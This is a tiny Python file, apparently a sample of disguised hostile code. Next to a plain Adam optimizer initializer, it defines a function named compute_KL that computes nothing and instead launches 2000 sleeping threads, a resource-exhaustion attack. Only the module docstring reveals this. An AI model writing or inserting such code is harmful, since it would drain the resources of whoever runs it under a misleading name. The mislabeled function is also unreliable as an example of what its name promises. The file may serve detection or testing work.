"""Starts up to 2000 threads."""

import autograd.numpy as np


def initialize_adam(params):
    return np.zeros_like(params), np.zeros_like(params)

import threading
import time


def compute_KL(x):
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(60,)).start()
